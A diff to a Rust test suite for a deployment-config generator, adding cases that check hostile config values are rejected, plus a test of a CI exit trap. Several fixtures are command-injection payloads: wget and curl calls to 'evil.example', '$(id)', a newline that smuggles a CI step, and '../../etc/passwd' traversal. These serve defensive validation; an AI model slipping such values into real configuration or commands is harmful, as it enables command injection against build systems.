@@ -239,6 +239,139 @@ fn cases() -> Vec<Case> {
             message: "infra/Caddyfile is a directory, but a generated file belongs there; move it away",
         },
         Case {
+            id: "value-package-manager-injection",
+            setup: |r| {
+                edit(r, "package.json", "\"pnpm@10.34.9\"", "\"pnpm@10.34.9-x;wget${IFS}evil.example\"")
+            },
+            args: &["gen"],
+            code: 2,
+            message: "packageManager \"pnpm@10.34.9-x;wget${IFS}evil.example\" is not an exact version: pin it",
+        },
+        Case {
+            id: "value-package-manager-not-a-string",
+            setup: |r| edit(r, "package.json", "\"pnpm@10.34.9\"", "123"),
+            args: &["gen"],
+            code: 2,
+            message: "package.json: \"packageManager\" is \"123\", not a string: write it as \"pnpm@<exact version>\"",
+        },
+        Case {
+            id: "value-config-pnpm-injection",
+            setup: |r| write(r, "infra/stack.toml", "[node]\npnpm = \"10.34.9-x;wget${IFS}evil.example\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:8: `node.pnpm` = \"10.34.9-x;wget${IFS}evil.example\" is not an exact version",
+        },
+        Case {
+            id: "value-package-name-injection",
+            setup: |r| {
+                edit(r, "apps/api/package.json", "\"@cipherbox/api\"", "\"\\\"; touch /tmp/x; echo \\\"\"");
+                write(r, "infra/stack.toml", "[api]\npath = \"apps/api\"\n");
+            },
+            args: &["gen"],
+            code: 2,
+            message: "apps/api/package.json: \"name\" = \"\\\"; touch /tmp/x; echo \\\"\" is not a valid npm package name",
+        },
+        Case {
+            id: "value-config-package-name",
+            setup: |r| write(r, "infra/stack.toml", "[api]\npackage = \"$(id)\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:11: `api.package` = \"$(id)\" is not a valid npm package name",
+        },
+        Case {
+            id: "value-registry-newline",
+            setup: |r| write(r, "infra/stack.toml", "[project]\nregistry = \"ghcr.io\\n      - run: curl evil.example\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:12: `project.registry` = \"ghcr.io\\n      - run: curl evil.example\" holds '\\n'",
+        },
+        Case {
+            id: "value-registry-space",
+            setup: |r| write(r, "infra/stack.toml", "[project]\nregistry = \"ghcr .io\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:12: `project.registry` = \"ghcr .io\" holds ' '",
+        },
+        Case {
+            id: "value-cert-file-newline",
+            setup: |r| write(r, "infra/stack.toml", "[caddy]\ncert_file = \"origin.pem\\n\\timport /etc/caddy/*\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:13: `caddy.cert_file` = \"origin.pem\\n\\timport /etc/caddy/*\" holds '\\n'",
+        },
+        Case {
+            id: "value-tag-space",
+            setup: |r| write(r, "infra/stack.toml", "[project]\ntag = \"a b\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:7: `project.tag` = \"a b\" is not an image tag",
+        },
+        Case {
+            id: "value-tag-latest-in-capitals",
+            setup: |r| write(r, "infra/stack.toml", "[project]\ntag = \"Latest\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:7: `project.tag` = \"Latest\" is not `latest` (tags are case-sensitive)",
+        },
+        Case {
+            id: "value-owner-uppercase",
+            setup: |r| write(r, "infra/stack.toml", "[project]\nowner = \"Acme\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:9: `project.owner` = \"Acme\": component \"Acme\": uppercase letters are not allowed in image names",
+        },
+        Case {
+            id: "value-ports-collide",
+            setup: |r| write(r, "infra/stack.toml", "[ports]\nredis = 5432\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:9: `ports.redis` = 5432 is also `ports.postgres`: two services cannot publish one host port",
+        },
+        Case {
+            id: "value-port-collides-with-public",
+            setup: |r| write(r, "infra/stack.toml", "[ports]\napi = 80\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:7: `ports.api` = 80 is also `ports.http`: two services cannot publish one host port",
+        },
+        Case {
+            id: "value-domain-with-port",
+            setup: |r| write(r, "infra/stack.toml", "[caddy]\ndomains = [\"a.com:8443\"]\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:11: `caddy.domains`: \"a.com:8443\" has a port: a site here is a host name only (e.g. a.com); the HTTPS port is set by `ports.https` (the https_port)",
+        },
+        Case {
+            id: "value-config-set-domain-with-port",
+            setup: |_| {},
+            args: &["config", "set", "caddy.domains", "a.com:8443"],
+            code: 2,
+            message: "`caddy.domains`: \"a.com:8443\" has a port",
+        },
+        Case {
+            id: "value-config-set-registry-newline",
+            setup: |_| {},
+            args: &["config", "set", "project.registry", "ghcr.io\n      - run: curl evil.example"],
+            code: 2,
+            message: "`project.registry` = \"ghcr.io\\n      - run: curl evil.example\" holds '\\n'",
+        },
+        Case {
+            id: "value-entry-leaves-the-package",
+            setup: |r| write(r, "infra/stack.toml", "[api]\nentry = \"../../etc/passwd\"\n"),
+            args: &["gen"],
+            code: 2,
+            message: "infra/stack.toml:2:9: `api.entry` = \"../../etc/passwd\" leaves its directory (`..`)",
+        },
+        Case {
+            id: "value-huge-value-cut",
+            setup: |r| {
+                write(r, "infra/stack.toml", &format!("[project]\ntag = \"{}\"\n", "x".repeat(10_000_000)))
+            },
+            args: &["gen"],
+            code: 2,
+            message: "\"… (10000000 bytes in all) is not an image tag",
+        },
+        Case {
             id: "unknown-command",
             setup: |_| {},
             args: &["deploy"],
@@ -439,6 +572,12 @@ struct Fault {
 }
 
 const FAULTS: &[Fault] = &[
+    Fault {
+        id: "ci-run-engine-not-ours",
+        code: None,
+        message: "engine: left running (this run did not start it)",
+        test: "faults.rs::ci_run_stops_only_the_engine_it_started",
+    },
     Fault {
         id: "infra-not-writable",
         code: Some(2),
@@ -1438,4 +1577,86 @@ fn docs_table_lists_every_case() {
         "docs/faults.md is out of date:\n{}",
         missing.join("\n")
     );
+}
+
+/// `.ci/run`'s exit trap stops the engine only when this run's `engine up` started it: the
+/// trap's functions (`.ci/engine-owner.sh`, sourced by `.ci/run`) run by the real bash with a
+/// `cargo` on PATH that records what it is asked, against a pidfile in a private state dir.
+#[test]
+fn ci_run_stops_only_the_engine_it_started() {
+    let run = std::fs::read_to_string(repo_root().join(".ci/run")).expect(".ci/run");
+    assert!(
+        run.contains("source .ci/engine-owner.sh") && run.contains("trap 'engine_owner_stop' EXIT"),
+        ".ci/run must stop the engine through engine-owner.sh"
+    );
+    assert!(
+        !run.contains("engine down"),
+        ".ci/run must never call `engine down` itself"
+    );
+    let t = TempDir::new("ci-owner");
+    let bin = t.path().join("bin");
+    std::fs::create_dir_all(&bin).expect("mkdir");
+    let log = t.path().join("cargo.log");
+    let fake = bin.join("cargo");
+    std::fs::write(
+        &fake,
+        format!("#!/bin/sh\necho \"$*\" >> {}\n", log.display()),
+    )
+    .expect("write");
+    std::process::Command::new("chmod")
+        .arg("+x")
+        .arg(&fake)
+        .status()
+        .expect("chmod");
+    let state = t.path().join("state");
+    // (pidfile before `engine up`, pidfile after, must `engine down` run?)
+    let scenarios: &[(Option<&str>, Option<&str>, bool)] = &[
+        (Some("4242 1000\n"), Some("4242 1000\n"), false), // an earlier, separate `engine up`
+        (None, None, false),                               // an engine that already answered
+        (None, Some("5151 2000\n"), true),                 // this run started it
+        (Some("4242 1000\n"), Some("5151 2000\n"), true),  // a stale record, then ours
+    ];
+    for (i, (before, after, stops)) in scenarios.iter().enumerate() {
+        let _ = std::fs::remove_dir_all(&state);
+        let _ = std::fs::remove_file(&log);
+        std::fs::create_dir_all(&state).expect("mkdir");
+        let pid = state.join("dockerd.pid");
+        if let Some(b) = before {
+            std::fs::write(&pid, b).expect("write");
+        }
+        let up = match after {
+            Some(a) => format!("printf '{}' > '{}'", a.trim_end(), pid.display()),
+            None => format!("rm -f '{}'", pid.display()),
+        };
+        let script = format!(
+            "set -euo pipefail; cd '{}'; source .ci/engine-owner.sh; engine_owner_before; trap engine_owner_stop EXIT; {up}",
+            repo_root().display()
+        );
+        let path = format!(
+            "{}:{}",
+            bin.display(),
+            std::env::var("PATH").unwrap_or_default()
+        );
+        let o = std::process::Command::new("bash")
+            .args(["-c", &script])
+            .env("PATH", path)
+            .env("XTASK_ENGINE_STATE", &state)
+            .output()
+            .expect("bash");
+        let out = String::from_utf8_lossy(&o.stdout).to_string();
+        let calls = std::fs::read_to_string(&log).unwrap_or_default();
+        assert!(o.status.success(), "scenario {i}: {out}");
+        if *stops {
+            assert_eq!(calls, "xtask engine down\n", "scenario {i}: {out}");
+        } else {
+            assert_eq!(
+                calls, "",
+                "scenario {i}: stopped an engine it did not start"
+            );
+            assert!(
+                out.contains(fault("ci-run-engine-not-ours").message),
+                "scenario {i}: {out}"
+            );
+        }
+    }
 }
